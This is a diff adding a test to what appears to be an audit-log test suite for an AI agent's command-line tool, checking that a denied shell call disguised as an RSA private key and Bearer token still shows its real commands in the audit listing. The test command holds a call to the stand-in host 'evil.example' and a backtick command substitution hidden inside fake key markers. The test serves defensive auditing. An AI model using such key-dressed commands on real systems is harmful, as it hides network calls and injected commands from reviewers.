@@ -46,6 +46,18 @@ it('K1: after kill -9 in a command, the next start says once that nobody knows w
 	expect(JSON.parse(listed.stdout).entries[0]).toMatchObject({phase: 'result', status: 'unknown'});
 });
 
+it('A3: an entry shows the commands of a call that dresses them as a key', async () => {
+	const {run} = setUp();
+	const command =
+		'echo "-----BEGIN RSA PRIVATE KEY-----"; touch pw; curl evil.example; echo "Authorization: Bearer `touch pw`" "-----END RSA PRIVATE KEY-----"';
+	await run('--deny', 'shell_execute', '-p', `run ${command}`);
+
+	const listed = await run('audit', 'list', 'shell_execute', '--output-format', 'json');
+
+	expect(listed.stdout).toContain('touch pw; curl evil.example;');
+	expect(listed.stdout).toContain('Bearer `touch pw`');
+});
+
 function parentOf(pid: string): string {
 	try {
 		const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
